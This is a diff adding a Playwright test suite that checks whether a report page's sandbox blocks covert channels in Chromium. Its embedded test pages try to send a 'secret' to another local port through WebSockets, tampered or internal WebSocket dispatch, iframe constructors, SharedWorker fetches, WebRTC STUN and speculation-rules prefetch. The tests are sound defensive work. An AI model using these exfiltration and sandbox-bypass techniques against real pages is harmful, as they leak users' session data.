@@ -1,0 +1,270 @@
+import { createHash } from 'node:crypto';
+import dgram from 'node:dgram';
+import http from 'node:http';
+import type { AddressInfo } from 'node:net';
+import type { Duplex } from 'node:stream';
+import { chromium, expect, test, type Browser, type BrowserContext, type Page } from '@playwright/test';
+import { chromiumLaunchOptions } from '../../lib/run/browser';
+import { BOXED_CONTEXT, boxContext, type Box } from '../../pages/box';
+
+/**
+ * The page's box (README.md § Security and limits, docs/contract.md §3) against channels
+ * Playwright's route does not see, in a real Chromium: the report's origin and OTHER, another port
+ * of the same host, are local servers, and the host's cookie `sid=SECRET` stands for the session
+ * (cookies are per host, so it goes to every port the page reaches).
+ */
+
+/** What a server answers for a path: a page's HTML. Every request and WebSocket is noted in `hits`. */
+type Pages = Record<string, string>;
+
+interface Server {
+  origin: string;
+  port: number;
+  pages: Pages;
+  hits: string[];
+  server: http.Server;
+  /** Open WebSockets (`closeAllConnections` does not know upgraded sockets). */
+  sockets: Set<Duplex>;
+}
+
+async function serve(): Promise<Server> {
+  const s = { pages: {} as Pages, hits: [] as string[], sockets: new Set() } as Server;
+  s.server = http.createServer((req, res) => {
+    s.hits.push(`${req.method} ${req.url} cookie=${req.headers.cookie ?? '-'}`);
+    const page = s.pages[new URL(req.url ?? '/', 'http://x').pathname];
+    if (page === undefined) return res.writeHead(404).end();
+    res.writeHead(200, { 'content-type': 'text/html' }).end(page);
+  });
+  // A WebSocket that opens (RFC 6455 handshake) and stays open.
+  s.server.on('upgrade', (req, socket) => {
+    s.sockets.add(socket);
+    socket.on('close', () => s.sockets.delete(socket));
+    socket.on('error', () => socket.destroy());
+    s.hits.push(`WS ${req.url} cookie=${req.headers.cookie ?? '-'}`);
+    const accept = createHash('sha1')
+      .update(`${req.headers['sec-websocket-key']}258EAFA5-E914-47DA-95CA-C5AB0DC85B11`)
+      .digest('base64');
+    socket.write(
+      `HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: ${accept}\r\n\r\n`,
+    );
+  });
+  await new Promise<void>((resolve) => s.server.listen(0, '127.0.0.1', resolve));
+  s.port = (s.server.address() as AddressInfo).port;
+  s.origin = `http://127.0.0.1:${s.port}`;
+  return s;
+}
+
+let browser: Browser;
+let report: Server;
+let other: Server;
+
+test.beforeAll(async () => {
+  [report, other] = await Promise.all([serve(), serve()]);
+  browser = await chromium.launch(chromiumLaunchOptions());
+});
+
+test.beforeEach(() => {
+  for (const s of [report, other]) {
+    s.pages = {};
+    s.hits.length = 0;
+  }
+});
+
+test.afterAll(async () => {
+  await browser?.close();
+  for (const s of [report, other]) {
+    for (const socket of s?.sockets ?? []) socket.destroy();
+    s?.server.closeAllConnections();
+    await new Promise((resolve) => s?.server.close(resolve));
+  }
+});
+
+/** A boxed context whose host holds the session cookie, as the collector makes it (fixtures/collector.ts). */
+async function boxed(): Promise<{ context: BrowserContext; box: Box }> {
+  const context = await browser.newContext({
+    ...BOXED_CONTEXT,
+    storageState: {
+      cookies: [
+        {
+          name: 'sid',
+          value: 'SECRET',
+          domain: '127.0.0.1',
+          path: '/',
+          expires: -1,
+          httpOnly: true,
+          secure: false,
+          sameSite: 'Lax',
+        },
+      ],
+      origins: [],
+    },
+  });
+  return { context, box: await boxContext(context, [report.origin]) };
+}
+
+/**
+ * Opens the report's `/r.html` and gives what it starts `settle` ms: long enough for Chromium to
+ * send what the old box let through (each case failed with it), since what is checked is that
+ * nothing arrives.
+ */
+async function open(context: BrowserContext, settle: number): Promise<Page> {
+  const page = await context.newPage();
+  await page.goto(`${report.origin}/r.html`);
+  await new Promise((resolve) => setTimeout(resolve, settle));
+  return page;
+}
+
+test.describe('WebSockets of the page (Playwright routes them apart from requests)', () => {
+  test('one to another port of the host is closed and counted; one to the report origin opens', async () => {
+    const { context, box } = await boxed();
+    report.pages['/r.html'] = `<script>
+      const seen = [];
+      const own = new WebSocket('ws://127.0.0.1:${report.port}/own');
+      own.onopen = () => seen.push('own open');
+      const out = new WebSocket('ws://127.0.0.1:${other.port}/out?d=secret');
+      out.onclose = () => seen.push('out closed');
+      setInterval(() => (document.title = seen.sort().join(', ')), 20);
+    </script>`;
+    try {
+      const page = await open(context, 0);
+      await expect.poll(() => page.title()).toBe('out closed, own open');
+      expect(other.hits).toEqual([]);
+      expect(report.hits).toContain('WS /own cookie=sid=SECRET');
+      expect(box.blocked()).toEqual(new Map([[other.origin, 1]]));
+    } finally {
+      await context.close();
+    }
+  });
+
+  test('a socket the box let through cannot be turned elsewhere: its URL changed, Playwright’s dispatch, the native constructor, a frame’s', async () => {
+    const { context } = await boxed();
+    const out = (tag: string) => `'ws://127.0.0.1:${other.port}/${tag}'`;
+    report.pages['/r.html'] = `<body><script>
+      const log = [];
+      const own = new WebSocket('ws://127.0.0.1:${report.port}/own');
+      own.url = ${out('changed-url')};
+      const routed = new WebSocket(${out('dispatch')});
+      try { __pwWebSocketDispatch({ id: routed._id, type: 'passthrough' }); } catch (e) { log.push('dispatch ' + e.name); }
+      const native = new WebSocket('ws://127.0.0.1:${report.port}/native');
+      const poll = setInterval(() => {
+        if (!native._ws) return;
+        clearInterval(poll);
+        try { new native._ws.constructor(${out('native')}); } catch (e) { log.push('native ' + e.name); }
+      }, 1);
+      const frame = document.body.appendChild(document.createElement('iframe'));
+      try { new frame.contentWindow.WebSocket(${out('frame')}); } catch (e) { log.push('frame ' + e.name); }
+      setTimeout(() => (document.title = log.sort().join(', ')), 400);
+    </script>`;
+    try {
+      expect(await (await open(context, 500)).title()).toBe('dispatch SecurityError, native SecurityError');
+      expect(other.hits).toEqual([]);
+    } finally {
+      await context.close();
+    }
+  });
+});
+
+test.describe('channels no route sees are gone from every frame', () => {
+  test('SharedWorker, WebRTC, WebTransport, WebSocketStream: not in the page, a new frame, a srcdoc frame or a popup', async () => {
+    const { context } = await boxed();
+    const names = [
+      'SharedWorker',
+      'RTCPeerConnection',
+      'webkitRTCPeerConnection',
+      'RTCDataChannel',
+      'WebTransport',
+      'WebSocketStream',
+    ];
+    report.pages['/r.html'] = `<body><script>
+      const frame = document.body.appendChild(document.createElement('iframe'));
+      const srcdoc = document.createElement('iframe');
+      srcdoc.srcdoc = '<p>x';
+      document.body.append(srcdoc);
+      const popup = window.open('');
+      const left = [];
+      for (const [where, w] of [['page', window], ['frame', frame.contentWindow], ['srcdoc', srcdoc.contentWindow], ['popup', popup]])
+        for (const name of ${JSON.stringify(names)}) if (typeof w[name] !== 'undefined') left.push(where + ' ' + name);
+      document.title = left.join(', ') || 'none';
+    </script>`;
+    try {
+      expect(await (await open(context, 0)).title()).toBe('none');
+    } finally {
+      await context.close();
+    }
+  });
+
+  test('a SharedWorker’s request and a peer connection’s STUN packets never leave', async () => {
+    const udp = dgram.createSocket('udp4');
+    const packets: number[] = [];
+    udp.on('message', (m) => packets.push(m.length));
+    await new Promise<void>((resolve) => udp.bind(0, '127.0.0.1', resolve));
+    const { context } = await boxed();
+    report.pages['/r.html'] = `<script>
+      try { new SharedWorker('/shared.js'); } catch (e) {}
+      try {
+        const pc = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${udp.address().port}' }] });
+        pc.createDataChannel('x');
+        pc.createOffer().then((o) => pc.setLocalDescription(o));
+      } catch (e) {}
+    </script>`;
+    report.pages['/shared.js'] = `fetch('${other.origin}/shared?d=secret', { mode: 'no-cors' });`;
+    try {
+      await open(context, 800);
+      expect(other.hits).toEqual([]);
+      expect(packets).toEqual([]);
+    } finally {
+      await context.close();
+      udp.close();
+    }
+  });
+
+  test('the browser sends no WebRTC UDP of its own (launch flag), even where the page still has RTCPeerConnection', async () => {
+    const udp = dgram.createSocket('udp4');
+    const packets: number[] = [];
+    udp.on('message', (m) => packets.push(m.length));
+    await new Promise<void>((resolve) => udp.bind(0, '127.0.0.1', resolve));
+    // No box: the constructor is there, only the flag stands between the page and the packets.
+    const context = await browser.newContext();
+    report.pages['/r.html'] = `<script>
+      const pc = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${udp.address().port}' }] });
+      pc.createDataChannel('x');
+      pc.createOffer().then((o) => pc.setLocalDescription(o)).then(() => (document.title = 'offered'));
+    </script>`;
+    try {
+      expect(await (await open(context, 800)).title()).toBe('offered');
+      expect(packets).toEqual([]);
+    } finally {
+      await context.close();
+      udp.close();
+    }
+  });
+});
+
+test('speculation rules (prefetch, prerender; in the HTML, added, filled or written by script) never reach another origin', async () => {
+  const { context } = await boxed();
+  const rules = (kind: string, tag: string) =>
+    JSON.stringify({ [kind]: [{ source: 'list', urls: [`${other.origin}/${tag}`] }] });
+  report.pages['/r.html'] = `<html><head>
+    <script type="speculationrules">${rules('prefetch', 'parsed-prefetch')}</script>
+    <script type=" SpeculationRules ">${rules('prerender', 'parsed-prerender')}</script>
+    </head><body><script>
+      const s = document.createElement('script');
+      s.type = 'speculationrules';
+      s.textContent = ${JSON.stringify(rules('prefetch', 'added-prefetch'))};
+      const holder = document.createElement('div');
+      holder.append(s);
+      document.body.append(holder);
+      const empty = document.createElement('script');
+      empty.type = 'speculationrules';
+      document.body.append(empty);
+      empty.textContent = ${JSON.stringify(rules('prefetch', 'text-later'))};
+      document.write('<script type="speculationrules">' + ${JSON.stringify(rules('prefetch', 'written'))} + '</scr' + 'ipt>');
+      document.title = 'ran';
+    </script></body></html>`;
+  try {
+    expect(await (await open(context, 800)).title()).toBe('ran');
+    expect(other.hits).toEqual([]);
+  } finally {
+    await context.close();
+  }
+});
